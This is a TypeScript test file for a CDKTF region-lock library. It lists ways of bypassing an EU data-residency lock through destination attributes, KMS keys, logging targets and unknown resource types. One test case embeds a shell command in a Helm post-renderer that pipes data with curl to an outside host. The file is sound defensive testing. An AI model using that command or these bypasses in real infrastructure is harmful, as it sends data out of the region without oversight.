import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { AwsProvider } from "@cdktf/provider-aws/lib/provider";
import { CloudwatchLogGroup } from "@cdktf/provider-aws/lib/cloudwatch-log-group";
import { EksCluster } from "@cdktf/provider-aws/lib/eks-cluster";
import { IamRolePolicy } from "@cdktf/provider-aws/lib/iam-role-policy";
import { Route53HealthCheck } from "@cdktf/provider-aws/lib/route53-health-check";
import { S3Bucket } from "@cdktf/provider-aws/lib/s3-bucket";
import { S3BucketLoggingA as S3BucketLogging } from "@cdktf/provider-aws/lib/s3-bucket-logging";
import { SecretsmanagerSecret } from "@cdktf/provider-aws/lib/secretsmanager-secret";
import { VpcEndpoint } from "@cdktf/provider-aws/lib/vpc-endpoint";
import { ComputeBackendBucket } from "@cdktf/provider-google/lib/compute-backend-bucket";
import { ContainerCluster } from "@cdktf/provider-google/lib/container-cluster";
import { GoogleProvider } from "@cdktf/provider-google/lib/provider";
import { StorageBucket } from "@cdktf/provider-google/lib/storage-bucket";
import { HelmProvider } from "@cdktf/provider-helm/lib/provider";
import { Release } from "@cdktf/provider-helm/lib/release";
import { App, Fn, TerraformResource, TerraformStack } from "cdktf";
import { Construct } from "constructs";
import { DeepSeekApp, RegionLock } from "../../lib";
import { lockAttackTables } from "../support/region-lock-attacks";

/**
 * Bypass attempts through attributes that send data somewhere without being named `region` or
 * `location` (a third round, after region-lock-attacks.test.ts and -files): cross-region VPC
 * endpoints, access-log and usage-export destinations, ARNs and ids naming another region in any
 * attribute, a Helm post-renderer, resource types the lock does not know. "escaped" marks those
 * that synthesized before the fix in the same commit.
 */

interface Ctx { readonly app: App; readonly locked: TerraformStack }

function context(): Ctx {
  const app = new DeepSeekApp({ outdir: mkdtempSync(join(tmpdir(), "lock-dest-")) });
  const locked = new TerraformStack(app, "locked");
  RegionLock.lock(locked, "eu");
  new AwsProvider(locked, "aws", { region: "eu-north-1" });
  new GoogleProvider(locked, "google", { project: "p", region: "europe-west4" });
  return { app, locked };
}

class Raw extends TerraformResource {
  constructor(scope: Construct, id: string, type: string, private readonly body: Record<string, unknown>) {
    super(scope, id, { terraformResourceType: type });
  }
  protected synthesizeAttributes(): Record<string, unknown> {
    return this.body;
  }
}

const usKey = "arn:aws:kms:us-east-1:123456789012:key/00000000-0000-0000-0000-000000000000";
const helm = (c: Ctx) => new HelmProvider(c.locked, "helm", { kubernetes: { host: `https://${new EksCluster(c.locked, "eks", { name: "e", roleArn: "arn:aws:iam::1:role/r", vpcConfig: { subnetIds: ["s"] } }).endpoint}` } });

const ATTACKS: readonly { readonly name: string; readonly build: (c: Ctx) => void; readonly expect: RegExp }[] = [
  // escaped: attributes the lock did not read
  { name: "a cross-region VPC endpoint to S3 in the US (service_region)", build: (c) => { new VpcEndpoint(c.locked, "e", { vpcId: "vpc-1", serviceName: "com.amazonaws.us-east-1.s3", vpcEndpointType: "Interface", serviceRegion: "us-east-1" }); }, expect: /locked\/e\.service_(name|region): places an AWS resource outside/ },
  { name: "a VPC endpoint whose service name names a US region", build: (c) => { new VpcEndpoint(c.locked, "e", { vpcId: "vpc-1", serviceName: "com.amazonaws.us-west-2.s3" }); }, expect: /e\.service_name: .*names us-west-2/ },
  { name: "a VPC endpoint service name built by a function", build: (c) => { new VpcEndpoint(c.locked, "e", { vpcId: "vpc-1", serviceName: Fn.join(".", ["com.amazonaws", Fn.join("-", ["us", "east", "1"]), "s3"]) }); }, expect: /e\.service_name: names where data goes, but is not a literal/ },
  { name: "a VPC endpoint's service region built by a function", build: (c) => { new VpcEndpoint(c.locked, "e", { vpcId: "vpc-1", serviceName: "com.amazonaws.eu-north-1.s3", serviceRegion: Fn.join("-", ["us", "east", "1"]) }); }, expect: /e\.service_region: is a location taken from an expression/ },
  { name: "GCS access logs to a literal bucket (anywhere)", build: (c) => { new StorageBucket(c.locked, "b", { name: "b", location: "europe-west4", logging: { logBucket: "us-logs" } }); }, expect: /b\.logging\.log_bucket: is the access-log bucket given as a literal/ },
  { name: "GCS access logs to a bucket in the US multi-region", build: (c) => { const us = new StorageBucket(c.locked, "us", { name: "us", location: "europe-west4" }); us.addOverride("location", "US"); new StorageBucket(c.locked, "b", { name: "b", location: "europe-west4", logging: { logBucket: us.name } }); }, expect: /outside/ },
  { name: "GKE usage metering exported to a BigQuery dataset", build: (c) => { new ContainerCluster(c.locked, "k", { name: "k", location: "europe-west4", resourceUsageExportConfig: { bigqueryDestination: { datasetId: "us_dataset" } } }); }, expect: /bigquery_destination\.dataset_id: is the usage-metering dataset/ },
  { name: "an EKS cluster encrypting secrets with a US KMS key", build: (c) => { new EksCluster(c.locked, "k", { name: "k", roleArn: "arn:aws:iam::1:role/r", vpcConfig: { subnetIds: ["s"] }, encryptionConfig: { resources: ["secrets"], provider: { keyArn: usKey } } }); }, expect: /encryption_config\.provider\.key_arn: .*names us-east-1/ },
  { name: "a log group on a US KMS key", build: (c) => { new CloudwatchLogGroup(c.locked, "l", { name: "l", kmsKeyId: usKey }); }, expect: /l\.kms_key_id/ },
  { name: "a secret on a US KMS key", build: (c) => { new SecretsmanagerSecret(c.locked, "s", { name: "s", kmsKeyId: usKey }); }, expect: /s\.kms_key_id/ },
  { name: "a GKE cluster's database encryption key in us-central1", build: (c) => { new ContainerCluster(c.locked, "k", { name: "k", location: "europe-west4", databaseEncryption: { state: "ENCRYPTED", keyName: "projects/p/locations/us-central1/keyRings/r/cryptoKeys/k" } }); }, expect: /database_encryption\.key_name: .*names us-central1/ },
  { name: "an IAM policy granting a US resource (written into a location-free type)", build: (c) => { new IamRolePolicy(c.locked, "p", { role: "r", policy: JSON.stringify({ Statement: [{ Effect: "Allow", Action: "kms:Encrypt", Resource: usKey }] }) }); }, expect: /p\.policy: .*names us-east-1/ },
  { name: "a Helm release with a post-renderer (runs a program on the deployer's machine)", build: (c) => { new Release(c.locked, "r", { name: "r", chart: "c", provider: helm(c), postrender: { binaryPath: "/bin/sh", args: ["-c", "curl -d @- https://us.example.com"] } }); }, expect: /r\.postrender/ },
  { name: "a zone hidden in a host name", build: (c) => { new Raw(c.locked, "sn", "aws_subnet", { vpc_id: "vpc-1", cidr_block: "10.0.0.0/24", availability_zone_id: "use1-az1", tags_hint: "x.us-east-1a.example" }); }, expect: /tags_hint: .*names us-east-1/ },

  // recorded so they stay covered (all but the S3 log target named like a US region were refused before)
  { name: "a Storage Transfer job", build: (c) => { new Raw(c.locked, "t", "google_storage_transfer_job", { description: "x", transfer_spec: { gcs_data_sink: { bucket_name: "us" } } }); }, expect: /does not know \(google_storage_transfer_job\)/ },
  { name: "a BigQuery data transfer config", build: (c) => { new Raw(c.locked, "t", "google_bigquery_data_transfer_config", { display_name: "x", location: "europe-west4", data_source_id: "s", destination_dataset_id: "us" }); }, expect: /does not know \(google_bigquery_data_transfer_config\)/ },
  { name: "a Cloud CDN backend bucket", build: (c) => { new ComputeBackendBucket(c.locked, "bb", { name: "bb", bucketName: "b", enableCdn: true }); }, expect: /Google's edge/ },
  { name: "an S3 bucket with the provider v6 region argument in the US", build: (c) => { new S3Bucket(c.locked, "b", { region: "us-east-2" }); }, expect: /b\.region/ },
  { name: "S3 access logs to a target bucket named like a US region", build: (c) => { const b = new S3Bucket(c.locked, "b", {}); new S3BucketLogging(c.locked, "l", { bucket: b.id, targetBucket: "logs-us-east-1", targetPrefix: "x/" }); }, expect: /l\.target_bucket: .*names us-east-1/ },
  { name: "a KMS replica key", build: (c) => { new Raw(c.locked, "r", "aws_kms_replica_key", { primary_key_arn: "arn:aws:kms:eu-north-1:1:key/mrk-1" }); }, expect: /does not know \(aws_kms_replica_key\)/ },
  { name: "an S3 bucket notification to a US queue", build: (c) => { new Raw(c.locked, "n", "aws_s3_bucket_notification", { bucket: "b", queue: [{ queue_arn: "arn:aws:sqs:us-east-1:1:q", events: ["s3:ObjectCreated:*"] }] }); }, expect: /does not know \(aws_s3_bucket_notification\)/ },
];

const ACCEPTED: readonly { readonly name: string; readonly build: (c: Ctx) => void; readonly why: string }[] = [
  { name: "a Route 53 health check probing a US endpoint", build: (c) => { new Route53HealthCheck(c.locked, "h", { fqdn: "api.example.com", port: 443, type: "HTTPS", failureThreshold: 3, requestInterval: 30 }); }, why: "README threat model: health checkers probe from their own regions; a probe carries no data of the stack" },
  { name: "S3 access logs to a literal bucket name", build: (c) => { const b = new S3Bucket(c.locked, "b", {}); new S3BucketLogging(c.locked, "l", { bucket: b.id, targetBucket: "logs", targetPrefix: "x/" }); }, why: "S3 requires the target bucket in the source bucket's region (region-lock-types.ts)" },
  { name: "a VPC endpoint to S3 in the stack's own region", build: (c) => { new VpcEndpoint(c.locked, "e", { vpcId: "vpc-1", serviceName: "com.amazonaws.eu-north-1.s3" }); }, why: "same region" },
  { name: "GCS access logs to a checked EU bucket", build: (c) => { const l = new StorageBucket(c.locked, "l", { name: "l", location: "europe-west4" }); new StorageBucket(c.locked, "b", { name: "b", location: "europe-west4", logging: { logBucket: l.name } }); }, why: "the log bucket is checked" },
];


describe("region lock attacks through destinations not named region or location", () => {
  lockAttackTables(context, ATTACKS, ACCEPTED);
});
